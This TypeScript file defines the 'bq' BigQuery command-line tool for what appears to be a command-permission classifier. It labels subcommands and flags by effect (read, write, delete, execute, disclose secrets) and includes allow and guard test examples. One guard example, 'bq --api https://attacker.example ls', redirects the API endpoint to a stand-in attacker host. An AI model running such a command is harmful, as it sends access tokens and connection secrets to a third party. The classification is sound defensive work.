import {
  defineTool,
  deletes,
  discloses,
  executes,
  flags,
  like,
  reads,
  readsOnly,
  unless,
  values,
  writes,
  type Command,
  type Options,
} from "../tool.ts";

/** Flags are Google's `absl`: `--flag=value`, `--flag value`, `--noflag`. */
const queryOptions: Options = {
  ...flags(
    "--use_legacy_sql --nouse_legacy_sql --batch --nobatch --append_table --replace --allow_large_results --noallow_large_results --use_cache --nouse_cache --require_cache --rpc --flatten_results --noflatten_results --nodry_run --synchronous_mode --nosync --sync",
  ),
  ...values(
    "--destination_table --destination_kms_key --label --max_rows -n --maximum_bytes_billed --min_completion_ratio --parameter --display_name --location --schedule --target_dataset --time_partitioning_type --clustering_fields --connection_property --job_timeout_ms --max_statement_results --reservation_id --start_row -s --udf_resource --external_table_definition",
  ),
  "--dry_run": "attached",
};
/** A dry run validates the statement and says how many bytes it would read (bq reference, `--dry_run`). */
const query: Command = {
  options: queryOptions,
  operands: ["statement*"],
  preview: [like("--dry_run", /^(?:|true|t|1)$/), unless("--nodry_run")],
  does: [executes("code:bq query")],
};
const changing: Command = { optionsOnlyRead: true, operands: ["word*"], does: [writes("database:{word:?}")] };

export default defineTool({
  name: "bq",
  source: "bq 2.1 command-line reference, cloud.google.com/bigquery/docs/reference/bq-cli-reference",
  options: {
    ...flags(
      "--headless --noheadless --quiet -q --sync --nosync --synchronous_mode --debug_mode --nodebug_mode --use_google_auth --enable_gdrive --version",
    ),
    ...values(
      "--dataset_id --project_id --location --format --fingerprint_job_id --job_id --max_rows_per_request --trace --job_property --application_default_credential_file --service_account --quota_project_id --universe_domain",
    ),
    // Files of further flags and of code, and the address that the token is sent to.
    "--bigqueryrc, --flagfile, --discovery_file": { takes: "value", does: [executes("code:bq settings")] },
    "--api, --apilog, --oauth_access_token, --service_account_private_key_file, --credential_file, --ca_certificates_file, --proxy_address":
      { takes: "value", does: [discloses("secret:bq connection settings")] },
  },
  optionsMayFollow: true,
  withoutCommand: "help",
  target: { family: "gcp", values: { project: "{--project_id}" } },
  commands: {
    "ls, show, get-iam-policy, version, help, info, wait": readsOnly,
    head: { optionsOnlyRead: true, operands: ["word*"], does: [reads("database-rows:{word:?}")] },
    query,
    extract: { optionsOnlyRead: true, operands: ["word*"], does: [writes("bucket:{word:?}")] },
    rm: { optionsOnlyRead: true, operands: ["word*"], does: [deletes("database:{word:?}")] },
    "cp, load, mk, mkdef, update, insert, undelete, truncate, cancel, partition, add-iam-policy-binding, remove-iam-policy-binding, set-iam-policy, migrate_data":
      changing,
    init: { does: [writes("configuration:bq")] },
    shell: { does: [executes("session:bq shell")] },
  },
  examples: {
    allow: [
      "bq",
      "bq ls --max_results 5 prod:sales",
      "bq --project_id prod --format json show sales.orders",
      "bq query --dry_run --use_legacy_sql=false 'SELECT 1'",
      "bq query --dry_run=true 'SELECT 1'",
      "bq get-iam-policy prod:sales",
    ],
    guard: {
      "bq --dataset_id ls --project_id ls --location ls --format ls --fingerprint_job_id ls --job_id ls --max_rows_per_request 1 --trace x --job_property a --application_default_credential_file b --service_account c --quota_project_id d --universe_domain e rm sales.orders":
        ["delete database:sales.orders"],
      "bq query 'SELECT 1'": ["execute code:bq query"],
      "bq query --dry_run=false 'DELETE FROM a'": ["execute code:bq query"],
      "bq extract sales.orders gs://b/x": ["write bucket:sales.orders", "write bucket:gs://b/x"],
      "bq mk sales.x": ["write database:sales.x"],
      "bq init": ["write configuration:bq"],
      "bq shell": ["execute session:bq shell"],
      "bq ls --flagfile=x": ["execute code:bq settings"],
      "bq --flagfile x ls": ["execute code:bq settings"],
      "bq --api https://attacker.example ls": ["disclose secret:bq connection settings"],
    },
    doubt: { "bq frobnicate": "unknown-command" },
  },
});
